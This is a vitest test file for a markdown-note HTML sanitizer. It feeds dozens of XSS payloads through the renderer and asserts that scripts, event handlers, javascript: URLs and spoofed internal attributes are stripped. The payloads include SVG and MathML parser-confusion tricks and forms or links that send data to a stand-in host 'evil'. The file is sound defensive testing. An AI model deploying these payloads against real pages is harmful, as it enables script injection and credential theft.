/** Raw HTML of notes that means harm: nothing of it acts, nothing passes for ours, and what is lost is said. */
import { Window } from 'happy-dom'
import { expect, test } from 'vitest'
import { renderNote } from './page-fixture.ts'

const harm = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg><use href="#x"/><animate attributeName="href" to="javascript:alert(1)"/><set onbegin="alert(1)"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>"></desc></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><image href="https://evil/x"/><path style="fill: url(https://evil/x)" stroke="url(//evil)"/></svg>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)"><maction actiontype="statusline"><mi onclick="alert(1)">x</mi></maction></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script><iframe src="//evil"></iframe></annotation-xml></math>',
  '<math><mtext><textarea></mtext></math><img src=x onerror=alert(1)></textarea>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="x.swf"></object><embed src="x">',
  '<meta http-equiv="refresh" content="0;url=//evil">',
  '<link rel="stylesheet" href="//evil/x.css">',
  '<style>* { display: none }</style>',
  '<base href="//evil/">',
  '<form action="//evil"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<div style="background:url(javascript:alert(1)); position:fixed; width: expression(alert(1))">x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p>a<snippet-runner class="snippet" data-status="passed">x</snippet-runner></p>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x]( JaVaScRiPt:alert(1) )',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<div id="content" class="snippet" data-own="own-0" data-snippet="x" data-callout="note">x</div>',
]

test.for(harm)('%s', async (markdown) => {
  const { html } = await renderNote(`Before **us** $x$.\n\n${markdown}\n\nAfter.\n`)
  for (const element of elementsOf(html)) {
    expect(active).not.toContain(element.tagName.toLowerCase())
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^(?:on|srcdoc|formaction|data-(?:own|snippet|status))/)
      if (/^(?:href|src|action)$/.test(name))
        expect((value ?? '').replace(/\s/g, '')).not.toMatch(/^(?:javascript|vbscript):/i)
      if (name === 'style') expect(value).not.toMatch(/url\(|expression\(|position:\s*fixed/)
      if (name === 'id') expect(value).not.toBe('content')
      if (name === 'class') expect(value).not.toBe('snippet')
    }
  }
  expect(html).toContain('<strong>us</strong>')
  expect(html).toContain('class="katex"')
  expect(html).toContain('<p>After.</p>')
})

test('an address that would run code is a message at its place', async () => {
  const { messages } = await renderNote('One [x](javascript:alert(1)) two.\n')
  expect(messages.map(({ line, column, rule, text }) => `${line}:${column} ${rule} ${text}`)).toEqual([
    '1:5 unsafe-html A link starts with "javascript:", which a page may not follow; its text is shown without the link',
  ])
})

test('a mark that the note guesses gives it nothing of ours', async () => {
  const guesses = ['own', 'owno', 'ownoo'].flatMap((nonce) =>
    [0, 1, 2, 3].map((n) => `<i data-own="${nonce}-${n}">${nonce}</i>`),
  )
  const { html } = await renderNote(`A $y$ here.\n\n${guesses.join(' ')}\n`)
  expect(html.match(/class="katex"/g)).toHaveLength(1)
  expect(html).not.toContain('data-own')
  expect(html.match(/<i>owno?o?<\/i>/g)).toHaveLength(12)
})

const active =
  'script style iframe object embed base link meta form button textarea snippet-runner template noscript use animate set image foreignobject'.split(
    ' ',
  )

/** Read by another parser than ours. The formula, whose markup is KaTeX's, is left out. */
function elementsOf(html: string) {
  const { document } = new Window()
  document.body.innerHTML = html
  for (const formula of document.querySelectorAll('.katex')) formula.remove()
  return [...document.body.querySelectorAll('*')]
}

test.each([
  ['<div>\nfirst </summ', ['4 unsafe-html', '3 unpaired-html']],
  ['<div title="a\n> first', ['3 unsafe-html']],
  ['<div>\n<https://first', ['4 unsafe-html', '3 unpaired-html']],
])('a tag that ends nowhere is shown, and takes nothing along: %j', async (broken, faults) => {
  const { html, messages } = await renderNote(`Before.\n\n${broken}\n\nAfter.\n`)
  expect(html).toMatch(/<p>Before\.<\/p>[\s\S]*first[\s\S]*<p>After\.<\/p>/)
  expect(messages.map(({ line, rule }) => `${line} ${rule}`)).toEqual(faults)
})

test.each([
  ['<a href="https://x.org">![[Gone]]</a>', /<a href="https:\/\/x\.org"><div class="missing-embed">[^<]*<\/div><\/a>/],
  ['<b>one ![[Gone]] two</b> three', /<p><b>one <\/b><\/p><b><div[^>]*>[^<]*<\/div><\/b><p><b> two<\/b> three<\/p>/],
  ['<b><i>one</b> two</i> three', /<b><i>one<\/i><\/b><i> two<\/i> three/],
  ['<svg><foreignObject><div>A box</div></foreignObject><text>x</text></svg>', /<text>x<\/text><\/svg>A box/],
  ['<table><tr><td>a</td></tr>b<tr><td>c</td></table>', /<td>a<\/td><\/tr><tr><td>b<\/td><\/tr><tr><td>c<\/td>/],
])('what tags say of text stays with it: %j', async (markdown, expected) => {
  const { html } = await renderNote(`${markdown}\n`)
  expect(html).toMatch(expected)
})
